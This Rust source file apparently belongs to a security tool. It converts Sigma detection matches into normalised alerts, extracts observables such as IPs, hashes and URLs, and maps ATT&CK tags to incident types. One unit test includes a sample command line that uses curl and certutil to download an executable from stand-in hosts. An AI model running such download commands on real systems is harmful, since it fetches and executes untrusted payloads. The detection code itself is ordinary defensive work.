//! One Sigma match → one normalised alert.

use std::borrow::Cow;

use muster_core::taxonomy::RsitType;
use rsigma_eval::result::{DetectionBody, RuleHeader};
use rsigma_parser::Level;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::RuleInfo;
use crate::alert::{Alert, Format, Rule, Severity};
use crate::observable::{ObservableKind as K, Role};
use crate::parse::ParseOptions;
use crate::parse::json::{lookup, value_to_string};
use crate::timefmt;

/// Fields that carry the event's time, first present wins.
const TIME_FIELDS: &[&str] =
    &["@timestamp", "timestamp", "UtcTime", "TimeCreated", "EventTime", "eventTime", "ts", "time", "date"];

/// Fields that identify an event at its source, so the same event sent twice
/// gives the same fingerprint while two distinct events do not.
const EVENT_ID_FIELDS: &[&str] = &["EventRecordID", "RecordNumber", "uid", "event.id", "_id", "log.offset"];

/// Host the event is about.
const HOST_FIELDS: &[&str] = &["Computer", "host.name", "host.hostname", "hostname", "Hostname", "ComputerName"];

/// (field, kind, role) of the observables taken from common field names
/// (Sysmon / Windows, Zeek, ECS, generic firewall and DNS logs).
const OBSERVABLE_FIELDS: &[(&str, K, Option<Role>)] = &[
    ("SourceIp", K::Ipv4, Some(Role::Source)),
    ("DestinationIp", K::Ipv4, Some(Role::Destination)),
    ("IpAddress", K::Ipv4, Some(Role::Source)),
    ("ClientAddress", K::Ipv4, Some(Role::Source)),
    ("src_ip", K::Ipv4, Some(Role::Source)),
    ("dest_ip", K::Ipv4, Some(Role::Destination)),
    ("dst_ip", K::Ipv4, Some(Role::Destination)),
    ("id.orig_h", K::Ipv4, Some(Role::Source)),
    ("id.resp_h", K::Ipv4, Some(Role::Destination)),
    ("source.ip", K::Ipv4, Some(Role::Source)),
    ("destination.ip", K::Ipv4, Some(Role::Destination)),
    ("client.ip", K::Ipv4, Some(Role::Source)),
    ("server.ip", K::Ipv4, Some(Role::Destination)),
    ("Computer", K::Hostname, None),
    ("ComputerName", K::Hostname, None),
    ("WorkstationName", K::Hostname, None),
    ("SourceHostname", K::Hostname, Some(Role::Source)),
    ("DestinationHostname", K::Hostname, Some(Role::Destination)),
    ("host.name", K::Hostname, None),
    ("query", K::Domain, None),
    ("QueryName", K::Domain, None),
    ("dns.question.name", K::Domain, None),
    ("server_name", K::Domain, None),
    ("User", K::UserAccount, None),
    ("ParentUser", K::UserAccount, None),
    ("SubjectUserName", K::UserAccount, None),
    ("TargetUserName", K::UserAccount, None),
    ("user.name", K::UserAccount, None),
    ("username", K::UserAccount, None),
    ("Image", K::FileName, None),
    ("ParentImage", K::FileName, None),
    ("OriginalFileName", K::FileName, None),
    ("TargetFilename", K::FileName, None),
    ("ImageLoaded", K::FileName, None),
    ("process.executable", K::FileName, None),
    ("process.parent.executable", K::FileName, None),
    ("file.path", K::FileName, None),
    ("url", K::Url, None),
    ("URL", K::Url, None),
    ("url.original", K::Url, None),
    ("md5", K::Md5, None),
    ("sha1", K::Sha1, None),
    ("sha256", K::Sha256, None),
    ("file.hash.md5", K::Md5, None),
    ("file.hash.sha1", K::Sha1, None),
    ("file.hash.sha256", K::Sha256, None),
];

/// Command lines scanned for `http(s)://` URLs (downloads are a common Sigma subject).
const COMMAND_LINE_FIELDS: &[&str] = &["CommandLine", "ParentCommandLine", "process.command_line"];

/// Most URLs taken from one command line.
const MAX_URLS_PER_FIELD: usize = 4;

pub(super) fn alert(
    header: &RuleHeader,
    body: &DetectionBody,
    info: Option<&RuleInfo>,
    event: &Value,
    record: &[u8],
    options: &ParseOptions,
) -> Alert {
    let text = |path: &str| text(event, path);
    let time = TIME_FIELDS
        .iter()
        .filter_map(|f| text(f))
        .find_map(|t| timefmt::parse_any(&t, options.year()))
        .unwrap_or(options.received_at);
    let mut a = Alert::new(Format::Sigma, "sigma", header.rule_title.clone(), time, rsit(&header.tags));
    a.severity = header.level.map_or(Severity::Medium, severity);
    a.source_ref.clone_from(&header.rule_id);
    a.rule = Some(Rule {
        id: header.rule_id.clone(),
        name: Some(header.rule_title.clone()),
        category: info.map(|i| i.logsource.clone()).filter(|s| !s.is_empty()),
    });
    a.host = HOST_FIELDS.iter().find_map(|f| text(f)).map(|h| h.trim().to_ascii_lowercase());
    a.tags.clone_from(&header.tags);
    for tag in &header.tags {
        if let Some(t) = tag.strip_prefix("attack.").filter(|t| t.starts_with(['t', 'T'])) {
            a.add_technique(t, "tags");
        }
    }
    for (field, kind, role) in OBSERVABLE_FIELDS {
        if let Some(v) = text(field) {
            match kind {
                K::Ipv4 => a.observe_ip(&v, *role, field),
                _ => a.observe(*kind, &v, *role, field),
            }
        }
    }
    if let Some(h) = text("Hashes") {
        observe_hashes(&mut a, &h);
    }
    for field in COMMAND_LINE_FIELDS {
        if let Some(cmd) = text(field) {
            for url in urls_in(&cmd).take(MAX_URLS_PER_FIELD) {
                a.observe(K::Url, url, None, field);
            }
        }
    }
    a.network.source_port = port(event, &["id.orig_p", "SourcePort", "src_port", "source.port"]);
    a.network.destination_port = port(event, &["id.resp_p", "DestinationPort", "dest_port", "destination.port"]);
    a.network.transport = ["proto", "Protocol", "network.transport"]
        .iter()
        .find_map(|f| text(f))
        .map(|p| p.to_ascii_lowercase())
        .filter(|p| matches!(p.as_str(), "tcp" | "udp" | "icmp" | "sctp"));
    if let Some(i) = info {
        a.description = i.description.clone();
        put(&mut a, "sigma.author", i.author.as_deref().map(Into::into));
        put(&mut a, "sigma.license", i.license.as_deref().map(Into::into));
        put(&mut a, "sigma.status", i.status.map(Into::into));
        put(&mut a, "sigma.logsource", Some(i.logsource.as_str()).filter(|s| !s.is_empty()).map(Into::into));
        put(&mut a, "sigma.rule_file", Some(i.file.to_string_lossy().replace('\\', "/").into()));
        if !i.references.is_empty() {
            a.extra.insert(Cow::Borrowed("sigma.references"), json!(i.references));
        }
        if !i.falsepositives.is_empty() {
            a.extra.insert(Cow::Borrowed("sigma.falsepositives"), json!(i.falsepositives));
        }
    }
    if let Some(level) = header.level {
        a.extra.insert(Cow::Borrowed("sigma.level"), json!(level.as_str()));
    }
    // The evaluator reports selections in hash order; sorted, an alert's document is stable.
    let mut selections = body.matched_selections.clone();
    selections.sort_unstable();
    a.extra.insert(Cow::Borrowed("sigma.matched_selections"), json!(selections));
    let mut matched: Vec<(&str, String, &Value)> =
        body.matched_fields.iter().map(|m| (m.field.as_str(), m.value.to_string(), &m.value)).collect();
    matched.sort_unstable_by(|x, y| (x.0, &x.1).cmp(&(y.0, &y.1)));
    matched.dedup_by(|x, y| x.0 == y.0 && x.1 == y.1);
    let matched: Vec<Value> = matched.into_iter().map(|(f, _, v)| json!({"field": f, "value": v})).collect();
    if !matched.is_empty() {
        a.extra.insert(Cow::Borrowed("sigma.matched_fields"), Value::Array(matched));
    }
    options.apply_markings(&mut a);
    a.original = record.to_vec();
    let key = event_key(event, record);
    a.seal(&[("event", &key)])
}

fn put(a: &mut Alert, key: &'static str, v: Option<Value>) {
    if let Some(v) = v {
        a.extra.insert(Cow::Borrowed(key), v);
    }
}

fn severity(level: Level) -> Severity {
    match level {
        Level::Informational => Severity::Info,
        Level::Low => Severity::Low,
        Level::Medium => Severity::Medium,
        Level::High => Severity::High,
        Level::Critical => Severity::Critical,
    }
}

/// The event's own id when it has one, else a digest of its bytes.
fn event_key(event: &Value, record: &[u8]) -> String {
    for f in EVENT_ID_FIELDS {
        if let Some(v) = lookup(event, f).and_then(value_to_string).filter(|s| !s.trim().is_empty()) {
            let computer = lookup(event, "Computer").and_then(value_to_string).unwrap_or_default();
            return format!("{f}={v}@{computer}");
        }
    }
    format!("sha256={}", hex::encode(Sha256::digest(record.trim_ascii())))
}

/// The non-blank text at `path`.
fn text<'a>(event: &'a Value, path: &str) -> Option<Cow<'a, str>> {
    lookup(event, path).and_then(value_to_string).filter(|s| !s.trim().is_empty())
}

fn port(event: &Value, fields: &[&str]) -> Option<u16> {
    fields.iter().find_map(|f| text(event, f)).and_then(|p| p.trim().parse().ok())
}

/// Sysmon's `Hashes`: `SHA1=…,MD5=…,SHA256=…,IMPHASH=…`.
fn observe_hashes(a: &mut Alert, hashes: &str) {
    for part in hashes.split(',') {
        let Some((alg, value)) = part.split_once('=') else { continue };
        let kind = match alg.trim().to_ascii_uppercase().as_str() {
            "MD5" => K::Md5,
            "SHA1" => K::Sha1,
            "SHA256" => K::Sha256,
            _ => continue,
        };
        a.observe(kind, value, None, "Hashes");
    }
}

/// `http://` and `https://` words of a command line, quotes trimmed.
fn urls_in(cmd: &str) -> impl Iterator<Item = &str> {
    cmd.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '`' | '(' | ')' | ',' | ';' | '|')).filter(|w| {
        let lower = w.get(..8).unwrap_or(w).to_ascii_lowercase();
        lower.starts_with("http://") || lower.starts_with("https://")
    })
}

/// RSIT from the rule's ATT&CK tags: a few techniques name the type
/// exactly; otherwise the tactic says what stage was seen; no tag, no guess.
fn rsit(tags: &[String]) -> RsitType {
    let has = |p: &str| tags.iter().any(|t| t.eq_ignore_ascii_case(p));
    let technique = |prefix: &str| {
        tags.iter().any(|t| {
            let t = t.to_ascii_lowercase();
            t.strip_prefix("attack.").is_some_and(|id| id == prefix || id.starts_with(&format!("{prefix}.")))
        })
    };
    let name = if technique("t1110") {
        "brute-force"
    } else if technique("t1566") {
        "phishing"
    } else if technique("t1498") || technique("t1499") {
        "dos"
    } else if technique("t1486") {
        "infected-system"
    } else if technique("t1190") {
        "exploit"
    } else if has("attack.impact") {
        "sabotage"
    } else if has("attack.exfiltration") {
        "data-leak"
    } else if has("attack.command-and-control") || has("attack.command_and_control") {
        "infected-system"
    } else if [
        "attack.lateral-movement",
        "attack.lateral_movement",
        "attack.privilege-escalation",
        "attack.privilege_escalation",
        "attack.credential-access",
        "attack.credential_access",
        "attack.persistence",
        "attack.execution",
        "attack.defense-evasion",
        "attack.defense_evasion",
    ]
    .iter()
    .any(|t| has(t))
    {
        // Post-exploitation activity seen on a host: the host is compromised until shown otherwise.
        "system-compromise"
    } else if has("attack.collection") {
        "unauthorised-information-access"
    } else if has("attack.initial-access") || has("attack.initial_access") {
        "exploit"
    } else if has("attack.discovery") || has("attack.reconnaissance") {
        "scanner"
    } else {
        "undetermined"
    };
    crate::parse::suricata::rsit(name)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tags(t: &[&str]) -> Vec<String> {
        t.iter().map(|s| (*s).to_owned()).collect()
    }

    #[test]
    fn rsit_prefers_techniques_then_tactics_then_undetermined() {
        assert_eq!(rsit(&tags(&["attack.credential-access", "attack.t1110.001"])).as_str(), "brute-force");
        assert_eq!(rsit(&tags(&["attack.persistence", "attack.t1547.001"])).as_str(), "system-compromise");
        assert_eq!(rsit(&tags(&["attack.command-and-control"])).as_str(), "infected-system");
        assert_eq!(rsit(&tags(&["attack.discovery"])).as_str(), "scanner");
        assert_eq!(rsit(&tags(&["detection.emerging-threats"])).as_str(), "undetermined");
        assert_eq!(rsit(&[]).class().as_str(), "other");
    }

    #[test]
    fn urls_are_found_in_command_lines() {
        let cmd = r#"curl.exe -o C:\x.exe "http://1.2.3.4/a.exe" & certutil -urlcache -f HTTPS://e.example/p"#;
        assert_eq!(urls_in(cmd).collect::<Vec<_>>(), ["http://1.2.3.4/a.exe", "HTTPS://e.example/p"]);
    }

    #[test]
    fn event_key_uses_the_record_id_else_the_bytes() {
        let e = json!({"EventRecordID": 7, "Computer": "pc"});
        assert_eq!(event_key(&e, b"x"), "EventRecordID=7@pc");
        let k = event_key(&json!({}), b" {} \n");
        assert_eq!(k, event_key(&json!({}), b"{}"));
        assert_ne!(k, event_key(&json!({}), b"{\"a\":1}"));
    }
}
